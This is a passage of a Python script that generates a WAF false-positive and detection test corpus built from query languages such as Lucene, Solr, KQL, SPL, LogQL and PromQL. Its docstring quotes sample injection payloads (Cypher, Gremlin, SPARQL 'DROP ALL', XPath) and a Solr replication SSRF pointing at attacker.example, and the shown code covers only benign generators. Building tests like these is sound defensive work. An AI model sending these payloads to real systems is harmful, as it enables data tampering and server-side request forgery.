#!/usr/bin/env python3
"""Held-out HTTP test corpus: query languages and search syntax sent by
legitimate users.

What it is
    A deterministic generator of realistic HTTP requests against APIs whose
    users legitimately send query languages and search syntax, behind a
    sidecar WAF: Elasticsearch / OpenSearch (query DSL bodies, `q=` Lucene
    syntax, aggregations), Solr (q, fq, facet.*, local params such as
    {!tag=..}/{!ex=..}), Kibana KQL, Splunk SPL search jobs, Grafana Loki
    LogQL, Prometheus PromQL, InfluxQL and Flux, Neo4j Cypher over the HTTP
    transaction API, Gremlin (TinkerPop/Neptune), SPARQL endpoints, GraphQL
    (queries, mutations, fragments, variables, GET and POST), OData
    $filter/$orderby/$expand, JMESPath, XPath search fields, MongoDB
    aggregation pipelines sent by BI tools (Atlas Data API style),
    Metabase / Superset / Redash parameterised query runs, Jira JQL, GitHub
    search qualifiers, Google-style advanced operators (site:, inurl:,
    filetype:, intitle:), and regex search fields.  Quotes, parentheses,
    AND/OR/NOT, wildcards, comparison operators and `$` fields are
    everywhere, which makes it a hard false-positive test for a WAF.

    * benign       ~450 ordinary requests (expect "pass"), plus ~50
                   "dev-content" requests (category "dev-content", still
                   "pass"): users saving whole SQL / Cypher / SPL / Flux
                   queries into notebooks, dashboards and saved questions
                   (Metabase native cards, Superset SQL Lab, Redash, Grafana
                   panels, Jupyter notebooks, Splunk saved searches, raw
                   ClickHouse HTTP SQL); counted apart.
    * attacks      ~300 requests (expect "detect") with real attack payloads
                   injected into those query parameters: SQLi breaking out of
                   generated SQL (search boxes, sort keys, OData, GraphQL
                   arguments, BI parameters, InfluxQL), COPY ... FROM
                   PROGRAM, Cypher injection (OR 1=1 WITH ... CALL dbms.*,
                   LOAD CSV FROM cloud metadata), Gremlin/Groovy code
                   execution, Elasticsearch script injection (painless /
                   Groovy Runtime.exec), Solr local params ({!xmlparser} XXE,
                   shards= SSRF, VelocityResponseWriter), SPARQL SERVICE /
                   LOAD to internal URLs, ClickHouse url()/file() table
                   functions, NoSQL $where/$function/$accumulator JS and
                   operator injection, LDAP filter injection, XPath injection,
                   reflected XSS through search terms, CRLF, path traversal in
                   export file names, RFI and PHP wrappers, Log4Shell / OGNL /
                   SpEL in search fields, SSTI in saved-search titles, request
                   smuggling, and scanner probes of /_cat, /solr/admin, ...

    Written blind: without looking at the WAF's rules, its tests, or the
    payload lists of the other corpus scripts, so it measures generalisation
    rather than rule-fitting.

How to run
    python3 scripts/corpus-querylang.py attacks > rulesets/tests/data/querylang-attacks.jsonl
    python3 scripts/corpus-querylang.py benign  > rulesets/tests/data/querylang-benign.jsonl
    python3 scripts/corpus-querylang.py stats      # counts per category, to stderr

Each output line is one JSON object:
    {"id", "set": "querylang", "category", "expect": "detect"|"pass", "method",
     "uri" (percent-encoded as a client sends it), "version": "HTTP/1.1",
     "headers": [[name, value], ...], "body"?: str}
Ids are "querylang/<category>/<generator>-NNN"; ordinary benign requests are
under "querylang/benign/...", dev-content under "querylang/dev-content/...".

Only the standard library is used; every generator draws from its own
random.Random seeded by name, so output is byte-for-byte reproducible.

First sight
-----------
(2026-12-06, binary /work/bin/pr-base, built-in rules, paranoia 1, threshold 5)
Run once, nothing tuned; the corpus was not changed after seeing the results.
Counts: 308 attacks (sqli 47, rce 33, ssrf 32, generic 26, lfi 25, xss 22,
scanner 20, nosql 18, ssti 18, java 16, xxe 12, crlf 10, php 9, ldap 8,
rfi 6, protocol 6), 507 benign (456 ordinary + 51 dev-content).
(protocol/smuggling-* carry conflicting Content-Length / Transfer-Encoding
headers on purpose; every other body's Content-Length is its UTF-8 byte
length.  Dev-content ids are numbered by one counter across generators.)

PL1 (flagged = blocked):
  attacks blocked   293/308 = 95.1 %  (100 % in crlf, java, ldap, lfi, nosql,
                    php, protocol, rce, rfi, sqli, ssti, xss, xxe;
                    ssrf 31/32, scanner 17/20, generic 15/26)
  benign blocked    49/456 = 10.7 % ordinary, 40/51 = 78.4 % dev-content
                    (metabase_native 8/8, superset_sqllab 7/7, redash_query
                    5/5, grafana_panel 6/6, jupyter_notebook 5/6,
                    clickhouse_http 4/6, neo4j_saved 3/5, influx_task 2/3,
                    splunk_saved 0/5)

Missed at PL1 (15):
  generic/cypher_injection-008       Keanu"}) MATCH (n) SET n.admin = true
                                     RETURN n // (score 4, sqli-002 only)
  generic/gremlin_traversal-001..003 x').drop().iterate();g.V()... and
                                     .valueMap('password') / union(...) breakouts
  generic/sparql_injection-001..003  " . } UNION { ?s ns:password ?o } #,
                                     " ) } ; DROP ALL ; # (score 4), INSERT DATA
  generic/xpath_injection-005        ') or string-length(name(/*[1]))>0 or ('
                                     (score 4, sqli-002 only)
  generic/promql_logql_injection-001..003
                                     label-matcher breakouts "}) or vector(1) ...
  ssrf/solr_shards-003               /replication?command=fetchindex&masterUrl=
                                     http://attacker.example:8983/... (CVE-2017-3164)
  scanner/service_probes-008         GraphQL introspection, UA graphql-cop
  scanner/service_probes-019, -020   /_cat/nodes and /solr/admin/cores with
                                     ordinary UAs (python-requests, Chrome)
Ordinary benign flagged at PL1 (49):
  benign/mongo_aggregate_bi (19/20)  Atlas Data API / Metabase native Mongo
                                     pipelines and find filters: $match, $gte,
                                     $or, $expr, $lookup, $regex
                                     (nosqli-110/-114/-120)
  benign/sparql_endpoint (8/18)      Content-Type application/sparql-query
                                     (protocol-110), newline inside a
                                     GET/form query (crlf-100), "SELECT
                                     (COUNT(" (sqli-011)
  benign/es_query_dsl (6/24)         GET /_search with a JSON body, as ES
                                     documents it (protocol-100); two also
                                     simple_query_string '"x" +(a | b)'
                                     (sqli-002)
  benign/neo4j_cypher (3/18)         "CALL db.labels()" (nosqli-150)
  benign/jmespath_filter (3/12)      "?starts_with(" (sqli-100), "s3://" in
                                     data_ref (rfi-111)
  benign/kibana_kql -002, -013, benign/saved_search_crud -006, -009
                                     KQL 'java.lang.IllegalStateException'
                                     (java-110)
  benign/influx_queries -007, -015   InfluxQL SELECT count("value") FROM
                                     "events" ... (sqli-002, sqli-011)
  benign/graphql_get -002, -003      Prisma-style `$where` variable in a GET
                                     query (nosqli-140, sqli-002)
  benign/jira_jql -004, -019         JQL 'filter = 10420 AND "Epic Link" =
                                     PROJ-1234' (sqli-002, xss-002)
"""

import json
import random
import sys
from urllib.parse import quote, quote_plus

SET = "querylang"

UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Edg/130.0.0.0",
]
BOT_UAS = [
    "python-requests/2.32.3", "Go-http-client/1.1", "elasticsearch-py/8.15.1 (Python/3.12.7; elastic-transport/8.15.0)",
    "opensearch-py/2.7.1", "Grafana/11.3.0", "Prometheus/2.55.0", "curl/8.5.0", "axios/1.7.7",
    "Apache-HttpClient/4.5.14 (Java/17.0.9)", "Metabase/v0.51.3", "Superset/4.1.0", "Redash/10.1.0",
    "neo4j-python/5.26.0 Python/3.12.7-final-0 (linux)", "gremlinpython/3.7.3", "SPARQLWrapper/2.0.0",
    "ClickHouse JDBC/0.6.5", "splunk-sdk-python/2.1.0", "Apollo-iOS/1.15.1", "okhttp/4.12.0",
    "influxdb-client-go/2.14.0", "JIRA-Cloud-Client/3.0", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
]


def q(params, style="strict"):
    """Encode query parameters the way different clients do."""
    if isinstance(params, dict):
        params = list(params.items())
    out = []
    for k, v in params:
        if style == "form":
            out.append(quote_plus(str(k), safe="[]$") + "=" + quote_plus(str(v), safe=""))
        elif style == "browser":
            # browsers leave most sub-delims alone in the query part
            out.append(quote(str(k), safe="[]$") + "=" + quote(str(v), safe="/:,'()*!~@$;"))
        else:
            out.append(quote(str(k), safe="[]$") + "=" + quote(str(v), safe=""))
    return "&".join(out)


def form(params):
    return q(params, "form")


def mk(rid, cat, expect, a, rng):
    uri = a["path"]
    if a.get("params"):
        p = a["params"]
        uri += "?" + (p if isinstance(p, str) else q(p, a.get("qstyle", "strict")))
    elif a.get("raw_query"):
        uri += "?" + a["raw_query"]
    browser = a.get("browser", False)
    h = [["Host", a["host"]]]
    ua = a.get("ua")
    if ua is None:
        ua = rng.choice(UAS if browser else BOT_UAS)
    h.append(["User-Agent", ua])
    h.append(["Accept", a.get("accept", "application/json, text/plain, */*")])
    if browser:
        h.append(["Accept-Language", rng.choice(["en-US,en;q=0.9", "de-DE,de;q=0.9,en;q=0.8", "fr-FR,fr;q=0.9,en;q=0.7", "en-GB,en;q=0.9"])])
        h.append(["Accept-Encoding", "gzip, deflate, br"])
    for e in a.get("extra") or []:
        h.append(list(e))
    if a.get("cookie"):
        h.append(["Cookie", a["cookie"]])
    body = a.get("body")
    if body is not None:
        h.append(["Content-Type", a.get("ctype") or "application/json"])
        if not a.get("no_cl"):
            h.append(["Content-Length", str(len(body.encode("utf-8")))])
    d = {"id": rid, "set": SET, "category": cat, "expect": expect, "method": a.get("method", "GET"),
         "uri": uri, "version": "HTTP/1.1", "headers": h}
    if body is not None:
        d["body"] = body
    return d


def js(o):
    return json.dumps(o, ensure_ascii=False)


def uuid(r):
    return "%08x-%04x-4%03x-%04x-%012x" % (r.getrandbits(32), r.getrandbits(16), r.getrandbits(12),
                                             0x8000 | r.getrandbits(14), r.getrandbits(48))


def hexid(r, n=24):
    return "".join(r.choice("0123456789abcdef") for _ in range(n))


def alnum(r, n):
    return "".join(r.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789") for _ in range(n))


def b64ish(r, n):
    return "".join(r.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_") for _ in range(n))


def day(r, year=2024):
    return "%d-%02d-%02d" % (year, r.randint(1, 12), r.randint(1, 28))


def ts(r):
    return "%sT%02d:%02d:%02d.%03dZ" % (day(r), r.randint(0, 23), r.randint(0, 59), r.randint(0, 59), r.randint(0, 999))


# cookies and auth headers of the tools in this domain
def kibana_hdrs(r):
    return [["kbn-xsrf", "true"], ["kbn-version", r.choice(["8.15.3", "8.16.1", "7.17.25"])],
            ["Origin", "https://kibana.acme.io"], ["Referer", "https://kibana.acme.io/app/discover"]]


def kibana_cookie(r):
    return "sid=Fe26.2**%s*%s*%s**%s*%s" % (hexid(r, 64), b64ish(r, 22), b64ish(r, 86), hexid(r, 64), b64ish(r, 43))


def grafana_cookie(r):
    return "grafana_session=%s; grafana_session_expiry=%d" % (hexid(r, 32), r.randint(1733400000, 1733900000))


def jira_cookie(r):
    return "JSESSIONID=%s; atlassian.xsrf.token=%s_%s_lin" % (hexid(r, 32).upper(), "B" + alnum(r, 3) + "-" + alnum(r, 4) + "-" + alnum(r, 4) + "-" + alnum(r, 4), hexid(r, 40))


def bearer(r):
    return ["Authorization", "Bearer eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.%s.%s" % (b64ish(r, 120), b64ish(r, 86))]


def basic(r):
    return ["Authorization", "Basic " + r.choice(["ZWxhc3RpYzpjaGFuZ2VtZQ==", "a2liYW5hX3N5c3RlbTpwYXNz", "cmVhZGVyOnMzY3JldCE=", "Z3JhZmFuYTpncmFmYW5h"])]


# ---------------------------------------------------------------------------
# registries
# ---------------------------------------------------------------------------

BENIGN = []
ATTACKS = []


def benign_gen(name, n):
    def deco(fn):
        BENIGN.append((name, n, fn))
        return fn
    return deco


def attack_gen(cat, name):
    """An attack generator takes an rng and returns a list of request specs."""
    def deco(fn):
        ATTACKS.append((cat, name, fn))
        return fn
    return deco


# ---------------------------------------------------------------------------
# vocabularies
# ---------------------------------------------------------------------------

WORDS = ["timeout", "connection reset", "payment failed", "NullPointerException", "disk full", "OOMKilled",
         "login", "checkout", "refund", "invoice", "latency", "503", "deadlock", "retry", "TLS handshake",
         "rate limit", "quota", "kafka", "redis", "certificate expired"]
SERVICES = ["api-gateway", "checkout", "payments", "auth", "search", "inventory", "notifications", "billing", "web", "worker"]
HOSTS = ["web-01", "web-02", "ip-10-0-3-17", "gke-prod-pool-1-8f2a", "db-replica-2", "edge-fra-3", "ams-k8s-node-7"]
ENVS = ["prod", "staging", "dev", "eu-west-1", "us-east-1"]
NAMES = ["O'Brien", "Nuñez", "Zoë Kravitz", "Smith & Wesson", "D'Angelo", "Müller", "Jean-Luc", "李雷", "Ana María", "McDonald's"]
PRODUCTS = ["usb-c cable", "4k monitor", "standing desk", "noise cancelling headphones", "mechanical keyboard",
            "ergonomic chair", "laptop stand", "webcam 1080p", "ssd 2tb", "wifi 6 router"]


# ---------------------------------------------------------------------------
# benign: search engines
# ---------------------------------------------------------------------------

LUCENE_Q = [
    'status:[500 TO 599] AND service:checkout',
    'message:"connection reset by peer" AND NOT host:web-0*',
    'title:(quick OR brown) AND author:"Doyle"',
    'user.name:O\\\'Brien~1',
    '(level:ERROR OR level:FATAL) AND @timestamp:[now-15m TO now]',
    'name:jo* AND age:>=21',
    'response_time:{1000 TO *} AND url.path:\\/api\\/v2\\/orders*',
    '"payment failed" -test -staging',
    'tags:(urgent AND billing) OR priority:1^2',
    'http.request.method:POST AND http.response.status_code:(401 OR 403)',
    'kubernetes.pod.name:checkout-* AND NOT kubernetes.namespace:kube-system',
    'error.message:/time[d]?out/',
    'price:[10 TO 100} AND in_stock:true',
    '_exists_:trace.id AND span.duration.us:>500000',
    'geo.country_iso_code:(DE OR FR OR NL) AND user_agent.name:"Mobile Safari"',
    'description:"select the best option" AND category:furniture',
    'sku:AB\\-123\\/X OR sku:"AB-124/X"',
    'log.level:warn* AND message:*deprecated*',
]

ES_INDICES = ["logs-*", "filebeat-8.15.3", "products", "orders-2024.11", "metrics-apm.app-default", "traces-apm-default", "customers_v3"]


@benign_gen("es_uri_search", 20)
def b_es_uri(r):
    idx = r.choice(ES_INDICES)
    params = [("q", r.choice(LUCENE_Q))]
    if r.random() < 0.5:
        params.append(("size", r.choice([10, 20, 50, 100])))
    if r.random() < 0.4:
        params.append(("sort", r.choice(["@timestamp:desc", "price:asc", "_score", "created_at:desc,id:asc"])))
    if r.random() < 0.3:
        params.append(("default_operator", r.choice(["AND", "OR"])))
    if r.random() < 0.3:
        params.append(("_source_includes", r.choice(["message,host.name,@timestamp", "name,price,sku"])))
    if r.random() < 0.2:
        params.append(("analyze_wildcard", "true"))
    return dict(method="GET", host=r.choice(["es.internal.acme.io:9200", "search-prod.acme.io", "opensearch.acme.io"]),
                path="/%s/_search" % idx, params=params, qstyle=r.choice(["strict", "browser"]), extra=[basic(r)])


def es_dsl_body(r):
    svc = r.choice(SERVICES)
    kind = r.randint(0, 7)
    if kind == 0:
        b = {"query": {"bool": {"must": [{"match": {"message": r.choice(WORDS)}}],
                                "filter": [{"term": {"service.name": svc}},
                                           {"range": {"@timestamp": {"gte": "now-%dh" % r.randint(1, 48), "lte": "now"}}}],
                                "must_not": [{"terms": {"log.level": ["debug", "trace"]}}]}},
             "sort": [{"@timestamp": {"order": "desc"}}], "size": r.choice([20, 50, 100])}
    elif kind == 1:
        b = {"size": 0, "query": {"query_string": {"query": r.choice(LUCENE_Q), "default_field": "message", "analyze_wildcard": True}},
             "aggs": {"by_host": {"terms": {"field": "host.name", "size": 10},
                                  "aggs": {"p95": {"percentiles": {"field": "event.duration", "percents": [95, 99]}}}}}}
    elif kind == 2:
        b = {"query": {"multi_match": {"query": r.choice(PRODUCTS), "fields": ["name^3", "description", "brand.keyword^2"],
                                       "type": "best_fields", "fuzziness": "AUTO"}},
             "highlight": {"pre_tags": ["<em>"], "post_tags": ["</em>"], "fields": {"name": {}, "description": {}}},
             "from": r.choice([0, 20, 40]), "size": 20}
    elif kind == 3:
        b = {"query": {"bool": {"should": [{"wildcard": {"user.email": {"value": "*@%s" % r.choice(["acme.io", "gmail.com"])}}},
                                           {"prefix": {"user.name": r.choice(["jo", "mar", "ann"])}}],
                                "minimum_should_match": 1}},
             "_source": ["user.*", "event.action"]}
    elif kind == 4:
        b = {"size": 0, "aggs": {"per_day": {"date_histogram": {"field": "@timestamp", "calendar_interval": "1d", "time_zone": "Europe/Berlin"},
                                             "aggs": {"revenue": {"sum": {"field": "order.total"}},
                                                      "avg_basket": {"bucket_script": {"buckets_path": {"r": "revenue", "c": "_count"},
                                                                                       "script": "params.r / params.c"}}}}}}
    elif kind == 5:
        b = {"query": {"function_score": {"query": {"match": {"title": r.choice(PRODUCTS)}},
                                          "functions": [{"field_value_factor": {"field": "popularity", "modifier": "log1p"}},
                                                        {"gauss": {"created_at": {"origin": "now", "scale": "30d"}}}],
                                          "boost_mode": "multiply"}}}
    elif kind == 6:
        b = {"query": {"bool": {"filter": [{"geo_distance": {"distance": "%dkm" % r.randint(1, 50), "location": {"lat": round(r.uniform(40, 55), 4), "lon": round(r.uniform(-5, 15), 4)}}},
                                           {"range": {"rating": {"gte": 4}}}]}},
             "sort": [{"_geo_distance": {"location": "52.52,13.40", "order": "asc", "unit": "km"}}]}
    else:
        b = {"query": {"simple_query_string": {"query": '"%s" +(%s | %s) -staging' % (r.choice(WORDS), svc, r.choice(SERVICES)),
                                               "fields": ["message", "error.message"], "default_operator": "and"}},
             "runtime_mappings": {"day_of_week": {"type": "keyword",
                                                   "script": {"source": "emit(doc['@timestamp'].value.dayOfWeekEnum.getDisplayName(TextStyle.FULL, Locale.ROOT))"}}},
             "fields": ["day_of_week"]}
    return b


@benign_gen("es_query_dsl", 24)
def b_es_dsl(r):
    b = es_dsl_body(r)
    path = "/%s/_search" % r.choice(ES_INDICES)
    params = None
    if r.random() < 0.3:
        params = [("typed_keys", "true"), ("request_cache", "true")]
    return dict(method=r.choice(["POST", "POST", "GET"]), host=r.choice(["es.internal.acme.io:9200", "search-prod.acme.io"]),
                path=path, params=params, body=js(b), extra=[basic(r)] if r.random() < 0.6 else [["Authorization", "ApiKey " + b64ish(r, 60)]])


@benign_gen("es_msearch_count", 8)
def b_es_msearch(r):
    if r.random() < 0.5:
        lines = []
        for _ in range(r.randint(2, 3)):
            lines.append(js({"index": r.choice(ES_INDICES)}))
            lines.append(js({"query": {"match_phrase": {"message": r.choice(WORDS)}}, "size": 0, "track_total_hits": True}))
        return dict(method="POST", host="es.internal.acme.io:9200", path="/_msearch", body="\n".join(lines) + "\n",
                    ctype="application/x-ndjson", extra=[basic(r)])
    return dict(method="POST", host="es.internal.acme.io:9200", path="/%s/_count" % r.choice(ES_INDICES),
                body=js({"query": {"bool": {"filter": [{"exists": {"field": "error.stack_trace"}}, {"term": {"service.environment": r.choice(ENVS)}}]}}}),
                extra=[basic(r)])


KQL = [
    'service.name : "checkout" and http.response.status_code >= 500',
    'not host.name : web-0* and message : "connection refused"',
    'user.email : *@acme.io and event.outcome : failure',
    'kubernetes.labels.app : (frontend or backend) and not log.level : debug',
    'url.path : /api/v1/orders* and http.request.method : ("POST" or "PUT")',
    'event.duration > 2000000000 and transaction.type : "request"',
    'error.exception.message : *NullPointerException* or error.log.message : "java.lang.IllegalStateException"',
    'source.ip : 10.0.0.0/8 and not destination.port : (443 or 80)',
    'process.command_line : *powershell* and host.os.type : windows',
    'tags : "beats_input_codec_plain_applied" and agent.version < 8.0.0',
    'labels.customer_id : 4711 or labels.customer_name : "O\'Reilly Media"',
    'http.request.headers.user-agent : *curl* and not source.geo.country_iso_code : DE',
]


@benign_gen("kibana_kql", 18)
def b_kibana(r):
    kql = r.choice(KQL)
    if r.random() < 0.5:
        body = {"params": {"index": r.choice(["logs-*", "filebeat-*", "traces-apm*"]), "body": {
            "size": 500, "sort": [{"@timestamp": {"order": "desc", "unmapped_type": "boolean"}}],
            "query": {"bool": {"filter": [{"bool": {"should": [{"match_phrase": {"service.name": r.choice(SERVICES)}}], "minimum_should_match": 1}},
                                          {"range": {"@timestamp": {"format": "strict_date_optional_time", "gte": ts(r), "lte": ts(r)}}}]}}},
            "preference": r.randint(1700000000000, 1733900000000)}, "meta": {"query": kql}}
        return dict(method="POST", host="kibana.acme.io", path="/internal/search/ese", body=js(body), browser=True,
                    cookie=kibana_cookie(r), extra=kibana_hdrs(r))
    if r.random() < 0.5:
        app_state = "(columns:!(message,host.name),filters:!(),index:'%s',interval:auto,query:(language:kuery,query:'%s'),sort:!(!('@timestamp',desc)))" % (
            uuid(r), kql.replace("'", "!'"))
        params = [("_g", "(filters:!(),refreshInterval:(pause:!t,value:60000),time:(from:now-%dh,to:now))" % r.randint(1, 72)), ("_a", app_state)]
        return dict(method="GET", host="kibana.acme.io", path="/app/discover", params=params, qstyle="browser", browser=True,
                    accept="text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", cookie=kibana_cookie(r))
    body = {"attributes": {"title": r.choice(["5xx on checkout", "Failed logins (EU)", "Slow transactions > 2s", "NPEs last 24h"]),
                           "description": "", "query": {"query": kql, "language": "kuery"}, "filters": []}}
    return dict(method="POST", host="kibana.acme.io", path="/api/saved_query/_create", body=js(body), browser=True,
                cookie=kibana_cookie(r), extra=kibana_hdrs(r))


SOLR_Q = ['title:"harry potter" AND author:rowling', 'name:ipod OR name:"apple tv"', 'text:(solar AND panel) -refurbished',
          '*:*', 'cat:electronics AND price:[* TO 500]', 'manu:"Belkin" AND inStock:true', 'features:wifi~2',
          'id:SOLR1000 OR id:"0579B002"', 'title:(java OR kotlin) AND pubyear:[2015 TO NOW]', 'sku:9885A004 OR sku:"EN7800GTX/2DHTV/256M"']


@benign_gen("solr_select", 22)
def b_solr(r):
    core = r.choice(["products", "techproducts", "books", "articles_shard1_replica_n1", "catalog"])
    params = [("q", r.choice(SOLR_Q))]
    k = r.randint(0, 4)
    if k == 0:
        params += [("fq", "{!tag=cat}cat:(electronics OR memory)"), ("facet", "true"), ("facet.field", "{!ex=cat}cat"),
                   ("facet.field", "manu_exact"), ("facet.mincount", "1")]
    elif k == 1:
        params += [("defType", "edismax"), ("qf", "title^2 description body"), ("pf", "title^5"), ("mm", "2<75%"),
                   ("bq", "inStock:true^10"), ("q.op", "AND")]
    elif k == 2:
        params += [("fq", "price:[%d TO %d]" % (r.randint(0, 50), r.randint(100, 900))), ("fq", "-discontinued:true"),
                   ("facet", "true"), ("facet.range", "price"), ("facet.range.start", "0"), ("facet.range.end", "1000"), ("facet.range.gap", "100")]
    elif k == 3:
        params += [("fq", "{!geofilt sfield=store pt=%.4f,%.4f d=%d}" % (r.uniform(40, 55), r.uniform(-5, 15), r.randint(5, 50))),
                   ("sort", "geodist(store,52.52,13.40) asc"), ("fl", "id,name,score,dist:geodist(store,52.52,13.40)")]
    else:
        params += [("hl", "true"), ("hl.fl", "title,content"), ("hl.simple.pre", "<b>"), ("hl.simple.post", "</b>"),
                   ("fq", "lang:(en OR de)"), ("fq", "published:[NOW-1YEAR TO NOW]")]
    params += [("rows", r.choice([10, 20, 50])), ("start", r.choice([0, 0, 10, 40])), ("wt", r.choice(["json", "json", "xml"]))]
    if r.random() < 0.4:
        params.append(("json.facet", js({"brands": {"type": "terms", "field": "brand", "limit": 5, "facet": {"avg_price": "avg(price)"}}})))
    return dict(method="GET", host=r.choice(["solr.internal.acme.io:8983", "search.acme.io"]), path="/solr/%s/select" % core,
                params=params, qstyle=r.choice(["strict", "form", "browser"]))


@benign_gen("solr_json_request", 8)
def b_solr_json(r):
    body = {"query": r.choice(SOLR_Q), "filter": ["inStock:true", "price:[* TO %d]" % r.randint(100, 999)], "limit": 20,
            "sort": "score desc, popularity desc",
            "facet": {"categories": {"type": "terms", "field": "cat", "limit": 10, "sort": "count desc"},
                      "price_ranges": {"type": "range", "field": "price", "start": 0, "end": 1000, "gap": 250}}}
    if r.random() < 0.5:
        body["params"] = {"defType": "edismax", "qf": "name^3 features", "debug": "false"}
    return dict(method="POST", host="solr.internal.acme.io:8983", path="/solr/%s/query" % r.choice(["products", "techproducts"]), body=js(body))


# ---------------------------------------------------------------------------
# benign: observability query languages
# ---------------------------------------------------------------------------

SPL = [
    'search index=web sourcetype=access_combined status>=500 | stats count by host, status | sort -count',
    'search index=main "payment failed" OR "card declined" earliest=-24h | timechart span=1h count by service',
    'search index=auth action=failure user=* | stats dc(src_ip) AS ips, count BY user | where count > 10',
    'search index=k8s namespace="prod" (level=ERROR OR level=FATAL) NOT "healthcheck" | head 200',
    'search index=web uri_path="/api/v2/*" | eval resp_ms=round(response_time*1000,2) | stats perc95(resp_ms) by uri_path',
    'search index=fw dest_port IN (22, 3389) action=allowed | iplocation src_ip | stats count by Country',
    'search index=app sourcetype=json | spath path=order.total output=total | where total > 1000 | table _time order_id total',
    'search index=web | rex field=_raw "user=(?<user>[^\\s]+)" | top limit=20 user',
    '| tstats count where index=* by index, sourcetype | sort - count',
    'search index=proxy url="*.zip" OR url="*.exe" | lookup threat_intel domain OUTPUT category | search category!="benign"',
    'search index=main host=web-0* earliest=@d latest=now | transaction session_id maxspan=30m | where duration > 600',
    'search index=billing invoice_status="overdue" | eval days=round((now()-strptime(due_date,"%Y-%m-%d"))/86400) | where days > 30',
]


@benign_gen("splunk_search_jobs", 18)
def b_splunk(r):
    spl = r.choice(SPL)
    k = r.randint(0, 2)
    hdr = [["Authorization", "Splunk %s" % uuid(r)]] if r.random() < 0.6 else [basic(r)]
    if k == 0:
        body = form([("search", spl), ("earliest_time", r.choice(["-15m", "-24h@h", "-7d@d"])), ("latest_time", "now"),
                     ("output_mode", "json"), ("exec_mode", r.choice(["normal", "oneshot", "blocking"]))])
        return dict(method="POST", host="splunk.acme.io:8089", path="/services/search/jobs", body=body,
                    ctype="application/x-www-form-urlencoded", extra=hdr)
    if k == 1:
        params = [("search", spl), ("output_mode", "json"), ("earliest_time", "-1h")]
        return dict(method="GET", host="splunk.acme.io:8089", path="/services/search/jobs/export", params=params, extra=hdr)
    sid = "%d.%d" % (r.randint(1733000000, 1733900000), r.randint(1, 99999))
    return dict(method="GET", host="splunk.acme.io:8089", path="/services/search/jobs/%s/results" % sid,
                params=[("output_mode", "json"), ("count", 100), ("offset", r.choice([0, 100])),
                        ("search", r.choice(["| where count > 5", "| fields host, count", "| sort -count | head 10"]))], extra=hdr)


LOGQL = [
    '{app="nginx", env="prod"} |= "error" != "healthz"',
    '{namespace="checkout"} | json | status >= 500 | line_format "{{.method}} {{.path}} {{.status}}"',
    'sum by (level) (count_over_time({job="varlogs"} |~ "(?i)(error|warn)" [5m]))',
    'rate({container="api"} |= "timeout" [1m])',
    '{service_name="payments"} | logfmt | duration > 2s | label_format dur_ms="{{ .duration }}"',
    'topk(10, sum by (path) (rate({app="web"} | pattern `<ip> - - <_> "<method> <path> <_>" <status> <_>` [5m])))',
    '{cluster="eu1", pod=~"worker-.*"} |~ `panic: .*` | decolorize',
    'quantile_over_time(0.99, {app="api"} | json | unwrap latency_ms [5m]) by (route)',
    '{job="systemd-journal"} |= "Out of memory" or "oom-kill"',
    'sum(count_over_time({app="auth"} | json | event="login_failed" [1h])) by (user)',
]


@benign_gen("loki_logql", 18)
def b_loki(r):
    lq = r.choice(LOGQL)
    start = r.randint(1733300000, 1733400000)
    params = [("query", lq), ("start", "%d000000000" % start), ("end", "%d000000000" % (start + r.choice([900, 3600, 86400]))),
              ("limit", r.choice([100, 1000, 5000])), ("direction", r.choice(["backward", "forward"]))]
    if r.random() < 0.5:
        params.append(("step", r.choice(["15s", "60s", "5m"])))
    hdr = [["X-Scope-OrgID", r.choice(["tenant-a", "fake", "acme-prod"])]]
    if r.random() < 0.5:
        return dict(method="GET", host="grafana.acme.io", path="/api/datasources/proxy/uid/%s/loki/api/v1/query_range" % alnum(r, 9),
                    params=params, qstyle="browser", browser=True, cookie=grafana_cookie(r),
                    extra=[["X-Grafana-Org-Id", "1"], ["X-Dashboard-Uid", alnum(r, 9)], ["X-Panel-Id", str(r.randint(1, 40))]])
    return dict(method="GET", host="loki.monitoring.svc:3100", path=r.choice(["/loki/api/v1/query_range", "/loki/api/v1/query"]),
                params=params, extra=hdr)


PROMQL = [
    'sum(rate(http_requests_total{job="api",status=~"5.."}[5m])) by (instance)',
    'histogram_quantile(0.99, sum by (le, route) (rate(http_request_duration_seconds_bucket{service="checkout"}[5m])))',
    '100 - (avg by (instance) (irate(node_cpu_seconds_total{mode="idle"}[5m])) * 100)',
    'up{job=~"kube-.*"} == 0',
    'increase(kube_pod_container_status_restarts_total{namespace!="kube-system"}[1h]) > 3',
    '(node_filesystem_avail_bytes{fstype!~"tmpfs|overlay"} / node_filesystem_size_bytes) < 0.1',
    'sum(container_memory_working_set_bytes{pod=~"payments-.*", container!=""}) by (pod) / 1024 / 1024',
    'rate(process_cpu_seconds_total[1m]) and on(instance) up == 1',
    'count by (version) (label_replace(app_build_info, "version", "$1", "git_tag", "v(.*)"))',
    'predict_linear(node_filesystem_free_bytes{mountpoint="/"}[6h], 4 * 3600) < 0',
    'sum without (pod) (rate(grpc_server_handled_total{grpc_code!="OK"}[5m])) / ignoring(grpc_code) group_left sum without (pod) (rate(grpc_server_handled_total[5m]))',
    'absent(up{job="blackbox", instance="https://acme.io/healthz"})',
    'topk(5, sort_desc(sum by (path) (rate(nginx_ingress_controller_requests{status=~"4..|5.."}[10m]))))',
    'max_over_time(probe_duration_seconds{instance=~".*acme.*"}[1d:5m]) offset 1w',
]


@benign_gen("prometheus_promql", 22)
def b_prom(r):
    pq = r.choice(PROMQL)
    k = r.randint(0, 3)
    if k == 0:
        end = r.randint(1733300000, 1733400000)
        params = [("query", pq), ("start", end - 3600), ("end", end), ("step", r.choice([15, 30, 60]))]
